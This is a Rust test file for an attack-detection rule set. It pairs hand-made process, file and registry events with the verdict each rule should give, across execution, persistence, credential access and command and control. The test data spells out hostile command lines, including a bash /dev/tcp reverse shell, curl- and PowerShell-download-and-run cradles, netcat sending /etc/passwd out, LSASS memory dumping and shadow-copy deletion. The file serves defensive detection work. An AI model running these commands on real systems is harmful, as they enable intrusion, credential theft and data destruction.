//! One or more hand-made events per shipped rule, each with the verdict the
//! rule's description promises: the positives show that every regex compiles
//! to what it says (including case-insensitive Windows paths), the negatives
//! pin the look-alikes each rule must leave alone. A rule without a positive
//! example here fails `every_shipped_rule_has_a_positive_example`.

use std::collections::BTreeSet;
use std::sync::Arc;

use causaldefend_explain::attack::{AttackTable, RuleSet};
use event::{EdgeKind, Entity, EntityKind, Event, SourceFormat, Timestamp};

const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

fn format_of(path: &str) -> SourceFormat {
    if path.contains('\\') {
        SourceFormat::SysmonEvtx
    } else {
        SourceFormat::Auditd
    }
}

fn build(kind: EdgeKind, exe: &str, cmdline: &str, object: Entity, native: &str) -> Event {
    Event {
        ts: Timestamp::from_nanos(0),
        kind,
        subject: Arc::new(Entity::named(EntityKind::Process, exe, None).with_cmdline(cmdline)),
        object: Arc::new(object),
        native_type: native.into(),
        seq: 0,
        format: format_of(exe),
    }
}

/// A program start: the process (new image and command line) executes its file.
fn exec(exe: &str, cmdline: &str) -> Event {
    build(
        EdgeKind::Exec,
        exe,
        cmdline,
        Entity::named(EntityKind::File, exe, None),
        "execve",
    )
}

/// `exe` does `kind` to the file `path`.
fn file(kind: EdgeKind, exe: &str, path: &str) -> Event {
    build(
        kind,
        exe,
        exe,
        Entity::named(EntityKind::File, path, None),
        "openat",
    )
}

/// `exe` does `kind` to the registry key `key` (Sysmon 12/13).
fn reg(kind: EdgeKind, exe: &str, key: &str) -> Event {
    build(
        kind,
        exe,
        exe,
        Entity::named(EntityKind::RegistryKey, key, None),
        "13",
    )
}

/// Sysmon 10: `exe` opens `target` with the access mask in `native`.
fn access(exe: &str, target: &str, native: &str) -> Event {
    build(
        EdgeKind::ProcessAccess,
        exe,
        exe,
        Entity::named(EntityKind::Process, target, None),
        native,
    )
}

/// A Security or System record mapped with an account (or `System`) as the
/// actor: `subject` does `kind` to the `object_kind` entity `object`.
fn by_account(
    kind: EdgeKind,
    subject: &str,
    object_kind: EntityKind,
    object: &str,
    native: &str,
) -> Event {
    let subject_kind = if subject == "System" {
        EntityKind::Process
    } else {
        EntityKind::Principal
    };
    Event {
        ts: Timestamp::from_nanos(0),
        kind,
        subject: Arc::new(Entity::named(subject_kind, subject, None)),
        object: Arc::new(Entity::named(object_kind, object, None)),
        native_type: native.into(),
        seq: 0,
        format: SourceFormat::SysmonEvtx,
    }
}

// One example per line reads as a table; rustfmt would spread each over six.
#[rustfmt::skip]
fn examples() -> Vec<(&'static str, Event, bool)> {
    use EdgeKind::{Create, Link, Load, Read, RegistryCreate, RegistrySet, Rename, Unlink, Write};
    let mut kmod = build(
        Load,
        "/usr/sbin/insmod",
        "insmod x.ko",
        Entity::named(EntityKind::Module, "kmod:finit_module", None),
        "finit_module",
    );
    let kmod_sysmon = {
        let mut e = kmod.clone();
        e.format = SourceFormat::SysmonEvtx;
        e
    };
    kmod.format = SourceFormat::Auditd;
    vec![
        // execution
        ("lnx-shell-runs-decoded-input", exec("/usr/bin/dash", "sh -c echo aWQ= | base64 -d | bash"), true),
        ("lnx-shell-runs-decoded-input", exec("/usr/bin/dash", "sh -c d=\"base64 -d\"\necho aWQ= | $d |/bin/bash"), true),
        ("lnx-shell-runs-decoded-input", exec("/usr/bin/dash", "sh -c echo aWQ= | base64 -d > out.txt"), false),
        ("lnx-shell-from-download", exec("/usr/bin/dash", "sh -c curl -fsSL http://x/i.sh | sh"), true),
        ("lnx-shell-from-download", exec("/usr/bin/dash", "sh -c curl -s http://x/ > /dev/null"), false),
        ("lnx-shell-reads-stdin", exec("/usr/bin/bash", "/bin/bash"), true),
        ("lnx-shell-reads-stdin", exec("/usr/bin/bash", "-bash"), true),
        ("lnx-shell-reads-stdin", exec("/usr/bin/bash", "/bin/bash -c ls"), false),
        ("lnx-shell-reads-stdin", exec("/usr/bin/bash", "bash backup.sh"), false),
        ("lnx-shell-reverse", exec("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), true),
        ("lnx-shell-reverse", exec("/usr/bin/bash", "bash -c cat x > /dev/null"), false),
        ("lnx-script-in-temp-dir", exec("/usr/bin/dash", "/bin/sh /tmp/art.sh"), true),
        ("lnx-script-in-temp-dir", exec("/usr/bin/dash", "/bin/sh /usr/local/bin/backup.sh"), false),
        ("win-powershell-encoded-command", exec(PS, "powershell.exe -NoP -NonI -W Hidden -Enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA="), true),
        ("win-powershell-encoded-command", exec(r"C:\WINDOWS\SYSTEM32\WINDOWSPOWERSHELL\V1.0\POWERSHELL.EXE", "POWERSHELL -ENCODEDCOMMAND SQBmACgAJABQAFMAVgBlAHIA"), true),
        ("win-powershell-encoded-command", exec(PS, r"powershell.exe -ExecutionPolicy Bypass -File C:\scripts\backup.ps1"), false),
        ("win-powershell-download-cradle", exec(PS, "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"), true),
        ("win-powershell-download-cradle", exec(PS, "powershell -c Get-ChildItem"), false),
        ("win-powershell-hidden-inline", exec(PS, "powershell.exe -nop -w hidden -c \"$s=1\""), true),
        ("win-powershell-hidden-inline", exec(PS, "powershell.exe -c Get-Date"), false),
        // persistence
        ("lnx-cron-file-write", file(Create, "/usr/bin/dash", "/etc/cron.d/persistevil"), true),
        ("lnx-cron-file-write", file(Write, "/usr/bin/crontab", "/var/spool/cron/crontabs/root"), true),
        ("lnx-cron-file-write", file(Read, "/usr/sbin/cron", "/etc/crontab"), false),
        ("lnx-crontab-edit", exec("/usr/bin/crontab", "crontab /tmp/jobs"), true),
        ("lnx-crontab-edit", exec("/usr/bin/crontab", "crontab -l"), false),
        ("lnx-systemd-timer-write", file(Create, "/usr/bin/dash", "/etc/systemd/system/evil.timer"), true),
        ("lnx-useradd", exec("/usr/sbin/useradd", "useradd -M -N -r evil"), true),
        ("lnx-account-db-write", file(Rename, "/usr/sbin/useradd", "/etc/passwd"), true),
        ("lnx-account-db-write", file(Read, "/usr/bin/id", "/etc/passwd"), false),
        ("lnx-systemd-unit-write", file(Create, "/usr/bin/bash", "/etc/systemd/system/art.service"), true),
        ("lnx-systemd-unit-write", file(Link, "/usr/bin/systemctl", "/etc/systemd/system/multi-user.target.wants/art.service"), true),
        ("lnx-systemd-unit-write", file(Write, "/usr/bin/vi", "/etc/systemd/journald.conf"), false),
        ("lnx-systemctl-enable", exec("/usr/bin/systemctl", "systemctl enable art.service"), true),
        ("lnx-systemctl-enable", exec("/usr/bin/systemctl", "systemctl status ssh"), false),
        ("lnx-shell-profile-write", file(Write, "/usr/bin/dash", "/home/dev/.bashrc"), true),
        ("lnx-shell-profile-write", file(Create, "/usr/bin/tee", "/etc/profile.d/evil.sh"), true),
        ("lnx-shell-profile-write", file(Read, "/usr/bin/bash", "/home/dev/.bashrc"), false),
        ("lnx-ssh-authorized-keys-write", file(Write, "/usr/bin/dash", "/root/.ssh/authorized_keys"), true),
        ("lnx-rc-script-write", file(Write, "/usr/bin/dash", "/etc/rc.local"), true),
        ("lnx-kernel-module-load", kmod, true),
        ("lnx-kernel-module-load", kmod_sysmon, false),
        ("lnx-kernel-module-tool", exec("/usr/sbin/insmod", "insmod rootkit.ko"), true),
        ("lnx-kernel-module-tool", exec("/usr/sbin/modprobe", "modprobe -r usb_storage"), false),
        ("win-run-key-write", reg(RegistrySet, r"C:\Users\a\evil.exe", r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater"), true),
        ("win-run-key-write", reg(RegistrySet, r"C:\Users\a\evil.exe", r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\RunOnce\x"), true),
        ("win-run-key-write", reg(RegistrySet, r"C:\Windows\explorer.exe", r"HKU\S-1\Software\Microsoft\Windows\CurrentVersion\RunningApps\x"), false),
        ("win-run-key-reg-add", exec(r"C:\Windows\System32\reg.exe", r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d c:\x.exe"), true),
        ("win-startup-folder-file", file(Create, r"C:\Users\a\evil.exe", r"C:\Users\a\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\evil.lnk"), true),
        ("win-winlogon-key-write", reg(RegistrySet, r"C:\Users\a\evil.exe", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit"), true),
        ("win-schtasks-create", exec(r"C:\Windows\System32\schtasks.exe", r"schtasks /create /tn x /tr c:\x.exe /sc onlogon"), true),
        ("win-schtasks-create", exec(r"C:\Windows\System32\schtasks.exe", "schtasks /query /fo list"), false),
        ("win-scheduled-task-powershell", exec(PS, "powershell Register-ScheduledTask -TaskName x -Action $a"), true),
        ("win-task-file-create", file(Create, r"C:\Windows\system32\svchost.exe", r"C:\Windows\System32\Tasks\Evil"), true),
        // privilege escalation
        ("lnx-setuid-bit-chmod", exec("/usr/bin/chmod", "chmod u+s /tmp/hello"), true),
        ("lnx-setuid-bit-chmod", exec("/usr/bin/chmod", "chmod 4755 /tmp/hello"), true),
        ("lnx-setuid-bit-chmod", exec("/usr/bin/chmod", "chmod g+s /srv/share"), true),
        ("lnx-setuid-bit-chmod", exec("/usr/bin/chmod", "chmod 755 /tmp/hello"), false),
        ("lnx-setuid-bit-chmod", exec("/usr/bin/chmod", "chmod 0755 /tmp/hello"), false),
        ("lnx-setuid-bit-chmod", exec("/usr/bin/chmod", "chmod +x /tmp/art.sh"), false),
        ("lnx-sudoers-write", file(Write, "/usr/bin/dash", "/etc/sudoers.d/evil"), true),
        ("lnx-ld-preload-write", file(Write, "/usr/bin/dash", "/etc/ld.so.preload"), true),
        // defense evasion
        ("lnx-secure-delete", exec("/usr/bin/shred", "shred -u /tmp/victim.txt"), true),
        ("lnx-secure-delete", exec("/usr/bin/rm", "rm -f /tmp/victim.txt"), false),
        ("lnx-history-clear", exec("/usr/bin/bash", "bash -c history -c"), true),
        ("lnx-history-clear", exec("/usr/bin/rm", "rm /root/.bash_history"), true),
        ("lnx-history-file-removed", file(Unlink, "/usr/bin/rm", "/root/.bash_history"), true),
        ("lnx-system-log-removed", file(Unlink, "/usr/bin/rm", "/var/log/auth.log"), true),
        ("lnx-system-log-removed", file(Unlink, "/usr/sbin/logrotate", "/var/log/syslog.7.gz"), false),
        ("lnx-permission-tool", exec("/usr/bin/chattr", "chattr +i /etc/resolv.conf"), true),
        ("lnx-permission-tool", exec("/usr/bin/stat", "stat /etc/resolv.conf"), false),
        ("lnx-decode-tool", exec("/usr/bin/base64", "base64 -d"), true),
        ("lnx-decode-tool", exec("/usr/bin/base64", "base64 --decode /tmp/x.b64"), true),
        ("lnx-decode-tool", exec("/usr/bin/base64", "base64 /tmp/x"), false),
        ("lnx-decoded-payload", exec("/usr/bin/dash", "sh -c cat enc.dat | base64 -d > /tmp/art.sh"), true),
        ("lnx-decoded-payload", exec("/usr/bin/dash", "sh -c base64 -d enc.dat"), false),
        ("any-script-decodes-base64", exec("/usr/bin/python3.11", "python3 -c import base64;exec(base64.b64decode('aWQ='))"), true),
        ("win-certutil-decode", exec(r"C:\Windows\System32\certutil.exe", "certutil -decode enc.txt payload.exe"), true),
        ("win-rundll32-suspicious", exec(r"C:\Windows\System32\rundll32.exe", r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)"#), true),
        ("win-rundll32-suspicious", exec(r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Users\a\AppData\Local\Temp\x.dll,Start"), true),
        ("win-rundll32-suspicious", exec(r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL"), false),
        ("win-rundll32", exec(r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL"), true),
        ("win-mshta", exec(r"C:\Windows\System32\mshta.exe", "mshta http://x/a.hta"), true),
        ("win-regsvr32-scriptlet", exec(r"C:\Windows\System32\regsvr32.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll"), true),
        ("win-regsvr32-scriptlet", exec(r"C:\Windows\System32\regsvr32.exe", r"regsvr32 /s C:\Program Files\App\x.dll"), false),
        ("win-reg-tool-modify", exec(r"C:\Windows\System32\reg.exe", r"reg add HKLM\System\CurrentControlSet\Control\Lsa /v x /d 0"), true),
        ("win-reg-tool-modify", exec(r"C:\Windows\System32\reg.exe", r"reg query HKLM\Software"), false),
        ("win-registry-set-by-script-host", reg(RegistrySet, PS, r"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential"), true),
        ("win-registry-set-by-script-host", reg(RegistryCreate, PS, r"HKLM\SOFTWARE\Microsoft\EnterpriseCertificates\Disallowed"), false),
        ("win-registry-set-by-script-host", reg(RegistrySet, r"C:\Program Files\App\app.exe", r"HKLM\SOFTWARE\App\x"), false),
        ("win-powershell-registry-cmdlet", exec(PS, r"powershell Set-ItemProperty -Path HKLM:\Software\x -Name y -Value 1"), true),
        ("win-event-log-clear", exec(r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security"), true),
        ("win-event-log-clear", exec(r"C:\Windows\System32\wbem\WMIC.exe", r#"wmic  nteventlog where filename="security" cl"#), true),
        ("win-event-log-clear", exec(r"C:\Windows\System32\wevtutil.exe", "wevtutil qe Security /c:5"), false),
        // credential access
        ("lnx-shadow-read", file(Read, "/usr/bin/cat", "/etc/shadow"), true),
        ("lnx-shadow-read", file(Read, "/usr/bin/python3.11", "/etc/gshadow"), true),
        ("lnx-shadow-read", file(Read, "/usr/sbin/unix_chkpwd", "/etc/shadow"), false),
        ("lnx-shadow-read", file(Read, "/usr/bin/cat", "/etc/shadow-backup/notes"), false),
        ("lnx-shadow-in-command", exec("/usr/bin/cat", "cat /etc/shadow"), true),
        ("lnx-shadow-in-command", exec("/usr/sbin/unshadow", "unshadow /etc/passwd /tmp/s"), true),
        ("lnx-credential-file-read", file(Read, "/usr/bin/cat", "/home/dev/.netrc"), true),
        ("lnx-credential-file-read", file(Read, "/usr/bin/curl", "/home/dev/.netrc"), false),
        ("lnx-credential-file-search", exec("/usr/bin/find", "find /home -type f -name .netrc"), true),
        ("lnx-credential-file-search", exec("/usr/bin/grep", "grep -ri password /etc"), true),
        ("lnx-credential-file-search", exec("/usr/bin/grep", "grep -ci license"), false),
        ("lnx-private-key-search", exec("/usr/bin/find", "find / -name id_rsa"), true),
        ("win-lsass-read-access", access(r"C:\Users\a\mimikatz.exe", r"C:\Windows\system32\lsass.exe", "10:0x1010"), true),
        ("win-lsass-read-access", access(r"C:\Users\a\mimikatz.exe", r"C:\Windows\system32\lsass.exe", "10:0x1000"), false),
        ("win-lsass-read-access", access(r"C:\ProgramData\Microsoft\Windows Defender\MsMpEng.exe", r"C:\Windows\system32\lsass.exe", "10:0x1010"), false),
        ("win-lsass-access", access(r"C:\Users\a\tool.exe", r"C:\Windows\system32\lsass.exe", "10:0x1000"), true),
        ("win-lsass-access", access(r"C:\Windows\system32\svchost.exe", r"C:\Windows\system32\lsass.exe", "10:0x1000"), false),
        ("win-lsass-access", access(r"C:\Users\a\tool.exe", r"C:\Windows\explorer.exe", "10:0x1010"), false),
        ("win-lsass-dump-command", exec(r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full"), true),
        ("win-lsass-dump-command", exec(r"C:\Tools\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe l.dmp"), true),
        ("win-memory-dump-lolbin", exec(r"C:\Windows\System32\rdrleakdiag.exe", r"rdrleakdiag.exe /p 668 /o C:\x /fullmemdmp /snap"), true),
        // discovery
        ("lnx-system-info-tool", exec("/usr/bin/uname", "uname -a"), true),
        ("lnx-system-info-tool", exec("/usr/bin/date", "date"), false),
        ("lnx-os-release-read", file(Read, "/usr/bin/cat", "/etc/os-release"), true),
        ("lnx-os-release-read", file(Read, "/usr/bin/python3.11", "/etc/os-release"), false),
        ("win-system-info-tool", exec(r"C:\Windows\system32\systeminfo.exe", "systeminfo"), true),
        ("lnx-file-discovery", exec("/usr/bin/find", "find . -print"), true),
        ("lnx-file-discovery", exec("/usr/bin/ls", "ls -laR /home"), true),
        ("lnx-file-discovery", exec("/usr/bin/find", "find /usr/share/doc -maxdepth 2 -name *.gz"), false),
        ("lnx-file-discovery", exec("/usr/bin/ls", "ls -la /etc"), false),
        ("win-file-discovery", exec(r"C:\Windows\System32\cmd.exe", r"cmd.exe /c dir /s /b C:\Users"), true),
        ("lnx-account-discovery", exec("/usr/bin/getent", "getent passwd"), true),
        ("lnx-account-discovery", exec("/usr/bin/cat", "cat /etc/passwd"), true),
        ("win-net-account-discovery", exec(r"C:\Windows\System32\net.exe", "net user"), true),
        ("win-net-account-discovery", exec(r"C:\Windows\System32\net.exe", "net localgroup administrators"), true),
        ("win-net-account-discovery", exec(r"C:\Windows\System32\net.exe", "net user bob P@ss /add"), false),
        ("win-net-account-discovery", exec(r"C:\Windows\System32\net.exe", r"net use Z: \\srv\share"), false),
        ("win-net-domain-account-discovery", exec(r"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain"), true),
        ("win-net-user-add", exec(r"C:\Windows\System32\net1.exe", "net1 user bob P@ss /add"), true),
        ("win-sam-account-key-write", reg(RegistrySet, r"C:\Windows\system32\lsass.exe", r"HKLM\SAM\SAM\Domains\Account\Users\Names\hideme$\(Default)"), true),
        ("any-owner-discovery", exec("/usr/bin/id", "id"), true),
        ("any-owner-discovery", exec(r"C:\Windows\system32\whoami.exe", r#""C:\Windows\system32\whoami.exe" /user"#), true),
        ("any-owner-discovery", exec("/usr/bin/identify", "identify x.png"), false),
        ("any-network-config-discovery", exec("/usr/sbin/ip", "ip addr"), true),
        ("any-network-config-discovery", exec(r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"), true),
        ("any-network-connections-discovery", exec("/usr/bin/ss", "ss -tunap"), true),
        ("any-network-connections-discovery", exec(r"C:\Windows\System32\NETSTAT.EXE", "netstat -ano"), true),
        // collection
        ("lnx-archive-with-password", exec("/usr/bin/zip", "zip --password s3cret a.zip f"), true),
        ("lnx-archive-with-password", exec("/usr/bin/7z", "7z a -pSecret a.7z f"), true),
        ("lnx-archive-with-password", exec("/usr/bin/zip", "zip -r a.zip dir"), false),
        ("lnx-symmetric-encryption-tool", exec("/usr/bin/gpg", "gpg --batch -c /tmp/a.zip"), true),
        ("lnx-symmetric-encryption-tool", exec("/usr/bin/openssl", "openssl enc -aes-256-cbc -in f -out f.enc"), true),
        ("lnx-symmetric-encryption-tool", exec("/usr/bin/openssl", "openssl enc -d -aes-256-cbc -in f.enc"), false),
        ("lnx-symmetric-encryption-tool", exec("/usr/bin/gpg", "gpg --verify x.sig"), false),
        ("win-archive-with-password", exec(r"C:\Program Files\7-Zip\7z.exe", r#""C:\Program Files\7-Zip\7z.exe" a -pInfected out.7z C:\Users\a\Documents"#), true),
        // command and control
        ("lnx-download-to-shell", exec("/usr/bin/dash", "sh -c wget -qO- http://x/i.sh | bash"), true),
        ("lnx-download-tool-payload", exec("/usr/bin/wget", "wget http://x/payload.elf"), true),
        ("lnx-download-tool-payload", exec("/usr/bin/dash", "sh -c curl -o /tmp/x http://h/x && chmod +x /tmp/x"), true),
        ("lnx-download-tool-payload", exec("/usr/bin/curl", "curl -s http://127.0.0.1:8000/data.csv -o dl.csv"), false),
        ("lnx-whois-transfer", exec("/usr/bin/whois", "whois -h localhost -p 8443 hello"), true),
        ("lnx-whois-transfer", exec("/usr/bin/whois", "whois example.com"), false),
        ("lnx-netcat-transfer", exec("/usr/bin/nc", "nc -l -p 4444"), true),
        ("lnx-netcat-transfer", exec("/usr/bin/nc", "nc -nvlp 4444"), true),
        ("lnx-netcat-transfer", exec("/usr/bin/nc", "nc 10.0.0.1 4444 < /etc/passwd"), true),
        ("lnx-netcat-transfer", exec("/usr/bin/nc", "nc -zv 10.0.0.1 22"), false),
        ("lnx-remote-copy-pull", exec("/usr/bin/scp", "scp user@host:/tmp/tool /tmp/tool"), true),
        ("lnx-remote-copy-pull", exec("/usr/bin/scp", "scp /tmp/report user@host:/srv/"), false),
        ("win-certutil-download", exec(r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://x/a.exe a.exe"), true),
        ("win-bitsadmin-transfer", exec(r"C:\Windows\System32\bitsadmin.exe", r"bitsadmin /transfer job /download /priority high http://x/a.exe C:\a.exe"), true),
        ("win-powershell-download", exec(PS, "powershell (New-Object Net.WebClient).DownloadFile('http://x/a.exe','a.exe')"), true),
        ("win-powershell-download", exec(PS, "powershell Invoke-WebRequest -Uri http://x -OutFile a.exe"), true),
        // impact
        ("win-shadow-copy-delete", exec(r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"), true),
        ("win-shadow-copy-delete", exec(r"C:\Windows\System32\vssadmin.exe", "vssadmin list shadows"), false),
        // Windows account, task, service and share events (Security, System)
        ("win-task-registered-event", by_account(Create, r"CORP\admin", EntityKind::File, r"\Updater", "4698"), true),
        ("win-task-registered-event", by_account(Unlink, r"CORP\admin", EntityKind::File, r"\Updater", "4699"), false),
        ("win-service-installed-event", by_account(Create, "System", EntityKind::File, r"%SystemRoot%\PSEXESVC.exe", "7045"), true),
        ("win-service-installed-event", by_account(Create, "System", EntityKind::File, r"C:\x.exe", "7036"), false),
        ("win-account-created-event", by_account(Create, r"CORP\admin", EntityKind::Principal, r"CORP\evil", "4720"), true),
        ("win-account-created-event", by_account(Write, r"CORP\admin", EntityKind::Principal, r"CORP\evil", "4738"), false),
        ("win-privileged-group-member-added", by_account(Write, r"CORP\admin", EntityKind::Principal, r"Builtin\Administrators", "4732"), true),
        ("win-privileged-group-member-added", by_account(Write, r"CORP\admin", EntityKind::Principal, r"CORP\Domain Admins", "4728"), true),
        ("win-privileged-group-member-added", by_account(Write, r"CORP\admin", EntityKind::Principal, r"CORP\Printing Staff", "4732"), false),
        ("win-account-password-reset", by_account(Write, r"CORP\admin", EntityKind::Principal, r"CORP\bob", "4724"), true),
        ("win-account-password-reset", by_account(Write, r"CORP\bob", EntityKind::Principal, r"CORP\bob", "4723"), false),
        ("win-admin-share-access", by_account(EdgeKind::Open, r"OFFSEC\admmig", EntityKind::File, r"\\*\C$", "5145"), true),
        ("win-admin-share-access", by_account(EdgeKind::Open, r"CORP\admin", EntityKind::File, r"\\*\ADMIN$", "5140"), true),
        ("win-admin-share-access", by_account(EdgeKind::Open, r"SHIRE\HFDC01$", EntityKind::File, r"\\*\IPC$", "5140"), false),
        ("win-admin-share-access", by_account(EdgeKind::Open, r"CORP\admin", EntityKind::File, r"\\*\SYSVOL", "5140"), false),
        ("win-account-removed-or-disabled", by_account(Unlink, r"CORP\admin", EntityKind::Principal, r"CORP\bob", "4726"), true),
        ("win-account-removed-or-disabled", by_account(Write, r"CORP\admin", EntityKind::Principal, r"CORP\bob", "4725"), true),
        ("win-account-removed-or-disabled", by_account(Write, r"CORP\admin", EntityKind::Principal, r"CORP\bob", "4722"), false),
    ]
}

fn rules() -> RuleSet {
    RuleSet::embedded(&AttackTable::embedded().unwrap()).unwrap()
}

#[test]
fn each_rule_gives_the_promised_verdict_on_its_examples() {
    let rules = rules();
    let mut wrong = Vec::new();
    for (id, ev, want) in examples() {
        let rule = rules.get(id).unwrap_or_else(|| panic!("no rule {id}"));
        if rule.matches(&ev) != want {
            wrong.push(format!(
                "{id}: expected {want} on {} {:?} / {:?} -> {:?}",
                ev.kind, ev.subject.name, ev.subject.cmdline, ev.object.name
            ));
        }
        // The edge-kind index gives the same answer as the rule alone.
        if rules.matches(&ev).any(|r| r.id == id) != want {
            wrong.push(format!(
                "{id}: RuleSet::matches disagrees with Rule::matches"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_shipped_rule_has_a_positive_example() {
    let positive: BTreeSet<&str> = examples()
        .into_iter()
        .filter(|e| e.2)
        .map(|e| e.0)
        .collect();
    let rules = rules();
    let missing: Vec<_> = rules
        .rules()
        .iter()
        .map(|r| r.id.as_str())
        .filter(|id| !positive.contains(id))
        .collect();
    assert!(
        missing.is_empty(),
        "rules without a positive example: {missing:?}"
    );
}
